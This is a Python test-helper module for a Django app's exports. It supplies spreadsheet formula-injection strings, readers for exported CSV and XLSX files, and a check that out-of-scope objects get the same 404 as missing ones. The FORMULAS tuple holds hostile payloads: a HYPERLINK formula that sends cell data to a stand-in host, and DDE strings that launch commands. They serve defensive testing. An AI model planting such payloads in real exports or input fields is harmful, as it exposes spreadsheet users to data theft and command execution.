"""Test helpers for every app's exports: texts a spreadsheet would run as formulas, and
CSV and XLSX files read back as an officer's spreadsheet sees them."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.conf import settings
from django.contrib.auth.base_user import AbstractBaseUser
from django.shortcuts import resolve_url
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell, MergedCell

# One text per character a spreadsheet reads as the start of a formula (OWASP).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_table(content: bytes) -> list[list[str]]:
    """The rows of an exported CSV, which must start with the UTF-8 byte-order mark."""
    text = content.decode("utf-8")
    if not text.startswith("\ufeff"):
        raise AssertionError("an export is UTF-8 with a BOM, for Excel")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def xlsx_cells(content: bytes, sheet: int = 0) -> list[list[Cell | MergedCell]]:
    """The cells of a sheet of an exported workbook, by row (the header first)."""
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook.worksheets[sheet].iter_rows()]


def xlsx_formulas(content: bytes) -> list[Any]:
    """Every cell of the workbook that a spreadsheet would compute: none, in an export."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def assert_refused_as_missing(*, route: str, pk: int, outsider: AbstractBaseUser) -> None:
    """The route of one stored object (`route` takes its pk), refused: an anonymous reader
    is sent to sign in, and `outsider` (signed in, the object outside their scope) gets
    the very 404 of an object that does not exist, so that a refusal says nothing of it."""
    url = reverse(route, args=[pk])
    anonymous = Client().get(url)
    client = Client()
    client.force_login(outsider)  # type: ignore[arg-type]  # the user model, which core may not import
    outside = client.get(url)
    missing = client.get(reverse(route, args=[10**9]))
    signed_in = anonymous.status_code == 302 and anonymous["Location"].startswith(
        resolve_url(settings.LOGIN_URL)
    )
    if not signed_in or not outside.status_code == missing.status_code == 404:
        raise AssertionError(
            f"{url}: anonymous {anonymous.status_code} {anonymous.get('Location', '')}, "
            f"outsider {outside.status_code}, a missing object {missing.status_code}"
        )
    if outside.content != missing.content:
        raise AssertionError(f"{url}: the outsider's 404 differs from a missing object's")
